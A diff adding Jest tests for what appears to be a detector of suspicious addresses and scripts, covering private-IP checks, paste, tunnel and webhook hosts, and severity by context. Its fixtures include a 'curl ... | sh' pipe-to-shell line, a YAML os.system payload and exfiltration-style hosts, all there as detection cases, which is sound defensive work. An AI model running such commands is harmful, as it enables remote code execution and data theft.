@@ -1,5 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import {
+  describeTraits,
   findAddresses,
   judgeAddress,
   type AddressPlace,
@@ -46,6 +47,105 @@ describe('addresses', () => {
     expect(traits(text)).toEqual([]);
   });
 
+  it.each([
+    '10.0.0.1',
+    '127.9.9.9',
+    '172.16.0.1',
+    '172.31.255.1',
+    '192.168.7.7',
+    '169.254.1.1',
+    '192.0.0.9',
+    '198.51.100.4',
+    '224.0.0.1',
+    '255.255.255.255',
+    '[::1]',
+    '[::]',
+    '[fe80::1]',
+    '[fd12::1]',
+    '[fc00::1]',
+    '[2001:db8::1]',
+  ])('of no machine elsewhere: %s', (host) => {
+    expect(traits(`http://${host}/x`)).toEqual([]);
+  });
+
+  it.each([
+    '11.0.0.1',
+    '172.15.0.1',
+    '172.32.0.1',
+    '192.169.0.1',
+    '198.51.101.1',
+    '223.1.1.1',
+    '[2001:db9::1]',
+  ])('of a machine elsewhere: %s', (host) => {
+    expect(traits(`http://${host}/x`)).toEqual(['numeric host']);
+  });
+
+  it.each(['localhost', '127.0.0.1', '10.1.2.3', '172.17.0.1', '192.168.1.5', '[::1]', '[fd12::1]'])(
+    'may have any port on this machine and in its network: %s',
+    (host) => {
+      expect(traits(`http://${host}:54321/x`)).toEqual([]);
+    },
+  );
+
+  it.each([
+    ['HTTPS://Paste.RS./x?q=1#f).', 'https://Paste.RS./x', 'paste.rs', 'paste', 'HTTPS://Paste.RS./x?q=1#f'],
+    ['ftp://a.b.ngrok.io/c', 'ftp://a.b.ngrok.io/c', 'a.b.ngrok.io', 'tunnel', 'ftp://a.b.ngrok.io/c'],
+    ['ssh://me:pw@x.example.invalid/p', 'ssh://x.example.invalid/p', 'x.example.invalid', '', undefined],
+    [
+      String.raw`\\S.example.invalid\c$`,
+      String.raw`\\S.example.invalid\c$`,
+      'S.example.invalid',
+      '',
+      undefined,
+    ],
+    ['file:///etc/x', 'file:///etc/x', '', '', undefined],
+  ])('are shown as what they lead to: %s', (text, shown, host, use, whole) => {
+    const [found, ...more] = findAddresses(`see ${text} or not`);
+    expect(more).toEqual([]);
+    expect(found).toMatchObject({ shown, host, use, start: 4, end: 4 + (whole ?? text).length });
+  });
+
+  it.each(['http://a..b:99999/', 'http://[zz]/', 'http://300.300.300.300/'])(
+    'that lead nowhere are none: %s',
+    (text) => {
+      expect(findAddresses(text)).toEqual([]);
+    },
+  );
+
+  it('are cut at 200 characters, and are five hundred at most', () => {
+    for (const start of ['https://x.example.invalid/', 'file:///', '\\\\host.example.invalid\\'])
+      for (const { shown } of findAddresses(start + 'a'.repeat(300)))
+        expect(shown).toBe(
+          (start + 'a'.repeat(300)).slice(0, start.startsWith('\\') ? start.length + 80 : 200),
+        );
+    expect(findAddresses('http://a.b '.repeat(500))).toHaveLength(500);
+    expect(findAddresses('http://a.b '.repeat(501))).toHaveLength(500);
+  });
+
+  it.each([
+    ['http://8.8.4.4:4444/x', 'numeric host, unusual port'],
+    ['https://paste.rs/x', 'telling host, paste'],
+    ['https://huggingface.co/x', ''],
+  ])('are described by what is odd: %s: %j', (text, described) => {
+    expect(findAddresses(text).map(describeTraits)).toEqual([described]);
+  });
+
+  it.each<[string, AddressPlace, string | undefined]>([
+    ['https://paste.rs/x', 'prose', undefined],
+    ['https://webhook.site/x', 'prose', 'info'],
+    ['https://bit.ly/x', 'prose', undefined],
+    ['https://bit.ly/x', 'download', 'info'],
+    ['https://bit.ly/x', 'call', 'warning'],
+    ['https://webhook.site/x', 'code', 'critical'],
+    ['https://webhook.site/x', 'download', 'warning'],
+    ['http://w.example.invalid:31337/x', 'download', 'info'],
+    ['http://w.example.invalid:31337/hack', 'download', 'warning'],
+    ['http://w.example.invalid:31337/hack', 'code', 'warning'],
+    [String.raw`\\s.example.invalid\x`, 'code', 'critical'],
+  ])('%s in %s: %s', (text, place, severity) => {
+    expect(severities(text, place)).toEqual([severity]);
+  });
+
   it('count by where they stand', () => {
     const raw = 'http://8.8.4.4:4444/x';
     expect(severities(raw, 'call')).toEqual(['critical']);
@@ -90,6 +190,14 @@ describe('scripts', () => {
     '!!python/object/apply:os.system',
   ])('%s', (text) => {
     expect(tellingScript(text)).toBeDefined();
+  });
+
+  it('are quoted from where they tell, on one line, without credentials', () => {
+    const shown = tellingScript(
+      `Usage:\n  curl -H 'Authorization: qwertyuiop12'\thttp://x.example.invalid | sh${' a'.repeat(100)}`,
+    );
+    expect(shown).toMatch(/^curl -H 'Authorization: \*\*\*' http:\/\/x\.example\.invalid \| sh a/);
+    expect(tellingScript(`os.system('${'a'.repeat(300)}')`)).toBe(`os.system('${'a'.repeat(149)}`);
   });
 
   it.each([
